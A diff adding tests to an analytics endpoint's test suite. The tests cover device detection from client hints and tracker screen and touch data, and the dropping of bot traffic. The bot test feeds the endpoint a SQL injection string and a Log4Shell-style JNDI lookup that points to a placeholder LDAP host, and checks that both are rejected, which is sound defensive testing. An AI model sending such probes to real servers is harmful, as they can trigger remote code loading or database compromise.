@@ -117,6 +117,71 @@ describe('POST /api/collect', () => {
     expect(props).toEqual({ plan: 'pro', seats: '3' });
   });
 
+  it('asks for client hints and reads the device type from them and from the tracker report', async () => {
+    const tag = uuid();
+    const event = (path: string, context?: Record<string, unknown>) => ({
+      event_id: uuid(),
+      name: 'page_view',
+      properties: { url: url(`${path}?t=${tag}`) },
+      context,
+    });
+    // Chrome on a Galaxy Tab: a reduced user agent, the tablet named by its client hints.
+    const tab = await s.collect(
+      { site_id: s.site.tracking_id, events: [event('/tab')] },
+      {
+        'user-agent': 'Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36',
+        'sec-ch-ua-mobile': '?0',
+        'sec-ch-ua-platform': '"Android"',
+        'sec-ch-ua-model': '"SM-X710"',
+      },
+    );
+    expect(tab.status).toBe(202);
+    expect(tab.headers.get('accept-ch')).toBe('Sec-CH-UA-Mobile, Sec-CH-UA-Platform, Sec-CH-UA-Model');
+    expect(tab.headers.get('critical-ch')).toBeNull();
+    // An iPad asking for the desktop site: a Mac's user agent, told apart by the tracker's touch points.
+    const mac = 'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15';
+    const ipad = await s.collect(
+      {
+        site_id: s.site.tracking_id,
+        events: [
+          event('/ipad', { screen_width: 1180, screen_height: 820, touch: 5 }),
+          event('/mac', { screen_width: 1512, screen_height: 982, touch: 0 }),
+        ],
+      },
+      { 'user-agent': mac },
+    );
+    expect(ipad.status).toBe(202);
+    // Malformed hints are ignored, not an error.
+    const odd = await s.collect(
+      { site_id: s.site.tracking_id, events: [event('/odd')] },
+      { 'sec-ch-ua-mobile': 'yes', 'sec-ch-ua-platform': 'Android' },
+    );
+    expect(odd.status).toBe(202);
+    const rows = await s.events(s.site, 'AND url LIKE ?', [`%${tag}%`]);
+    const by = Object.fromEntries(rows.map((r) => [r.path, `${r.device_type} ${r.os} ${r.browser}`]));
+    expect(by).toEqual({
+      '/ipad': 'tablet iPadOS Safari',
+      '/mac': 'desktop macOS Safari',
+      '/odd': 'desktop Windows Chrome',
+      '/tab': 'tablet Android Chrome',
+    });
+    const script = await fetch(`${s.url}/t.js`);
+    expect(script.headers.get('accept-ch')).toBe('Sec-CH-UA-Mobile, Sec-CH-UA-Platform, Sec-CH-UA-Model');
+  });
+
+  it('drops clients that are no browser, and attack probes in the User-Agent, as bots', async () => {
+    const tag = uuid();
+    for (const ua of ['curl/8.4.0', 'Go-http-client/1.1', "' OR '1'='1", '\u0024{jndi:ldap://203.0.113.5/a}']) {
+      const res = await s.collect(
+        { site_id: s.site.tracking_id, events: [{ event_id: uuid(), name: 'page_view', properties: { url: url(`/x?t=${tag}`) } }] },
+        { 'user-agent': ua },
+      );
+      expect(res.status, ua).toBe(202);
+      expect(res.body, ua).toEqual({ success: true, events_received: 0, events_rejected: 1 });
+    }
+    expect(await s.events(s.site, 'AND url LIKE ?', [`%${tag}%`])).toEqual([]);
+  });
+
   it('never stores the IP, in events or raw payloads', async () => {
     const ip = '203.0.113.77';
     const tag = uuid();
